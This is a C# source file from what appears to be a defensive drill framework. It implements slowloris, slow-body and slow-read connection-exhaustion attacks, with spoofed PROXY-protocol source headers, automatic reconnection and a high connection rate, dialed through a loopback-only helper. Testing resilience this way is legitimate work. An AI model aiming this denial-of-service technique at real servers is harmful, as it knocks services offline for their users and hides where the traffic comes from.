using System.Net;
using System.Net.Sockets;
using System.Text;
using Karaula.Drill.Safety;
using Karaula.Drill.Sites;
using Karaula.Drill.Traffic;

namespace Karaula.Siege.Attacks;

/// <summary>Thousands of connections that are slow at one thing. Whoever is closed connects again a little later, as such tools do.</summary>
internal sealed class SlowConnections : IAttack
{
    private const int OpenedPerSecond = 2_000;

    private static readonly byte[] Drip = "a"u8.ToArray();

    private readonly AttackTarget _target;
    private readonly AttackCounters _counters;
    private readonly TimeProvider _time;
    private readonly byte[][] _proxyHeaders;
    private readonly byte[] _beginning;
    private readonly bool _drips;
    private readonly int _count;

    /// <summary>Prepares them.</summary>
    public SlowConnections(
        AttackTarget target, AttackPart part, IReadOnlyList<(IPAddress Address, double Share)> sources, AttackCounters counters, TimeProvider time)
    {
        _target = target;
        _counters = counters;
        _time = time;
        _count = Math.Min(part.Count, Ceilings.Sources);
        _drips = part.Kind != "slow-read";
        _proxyHeaders = [.. sources.Select(source => ProxyHeaderBytes.Write(source.Address, 4711))];
        _beginning = Encoding.Latin1.GetBytes(part.Kind switch
        {
            "slowloris" => $"GET / HTTP/1.1\r\nHost: {target.Host}\r\nX-A: ",
            "slow-body" => $"POST /search HTTP/1.1\r\nHost: {target.Host}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 40000\r\n\r\nq=",
            _ => $"GET {SamplePages.ArchivePath} HTTP/1.1\r\nHost: {target.Host}\r\n\r\n",
        });
    }

    /// <inheritdoc />
    public async Task RunAsync(CancellationToken stop)
    {
        var pace = new Pace(OpenedPerSecond, _time);
        var all = new List<Task>(_count);
        while (all.Count < _count && !stop.IsCancellationRequested)
        {
            for (var due = await pace.NextAsync(stop); due > 0 && all.Count < _count; due--)
                all.Add(HoldAsync(all.Count, stop));
        }

        await Task.WhenAll(all);
    }

    private async Task HoldAsync(int number, CancellationToken stop)
    {
        var heard = new byte[_drips ? 512 : 1];
        while (!stop.IsCancellationRequested)
        {
            try
            {
                using var socket = await LoopbackDialer.DialAsync(_target.Plain, stop);
                // A window as small as it gets: the rest has to wait in the server.
                if (!_drips)
                    socket.ReceiveBufferSize = 4096;
                _counters.Opened();
                await socket.SendAsync(_proxyHeaders[number % _proxyHeaders.Length], stop);
                await socket.SendAsync(_beginning, stop);
                await LingerAsync(socket, heard, number, stop);
            }
            catch (SocketException)
            {
                // Closed by the other side: again, below.
            }

            _counters.Closed();
            await Task.Delay(TimeSpan.FromMilliseconds(200 + (number % 800)), _time, stop);
        }
    }

    private async Task LingerAsync(Socket socket, byte[] heard, int number, CancellationToken stop)
    {
        if (!_drips)
        {
            // One byte a second, and a reset is seen as soon.
            while (await socket.ReceiveAsync(heard, stop) > 0)
                await Task.Delay(TimeSpan.FromSeconds(1), _time, stop);
            return;
        }

        // Whatever the server says, even a refusal, the connection is kept until it is closed.
        var closed = DrainAsync(socket, heard, stop);
        while (!closed.IsCompleted)
        {
            await Task.WhenAny(closed, Task.Delay(TimeSpan.FromMilliseconds(2000 + (number % 1000)), _time, stop));
            stop.ThrowIfCancellationRequested();
            if (!closed.IsCompleted)
                _counters.Sent(await socket.SendAsync(Drip, stop));
        }

        await closed;
    }

    private static async Task DrainAsync(Socket socket, byte[] heard, CancellationToken stop)
    {
        while (await socket.ReceiveAsync(heard, stop) > 0)
        {
            // Thrown away.
        }
    }
}
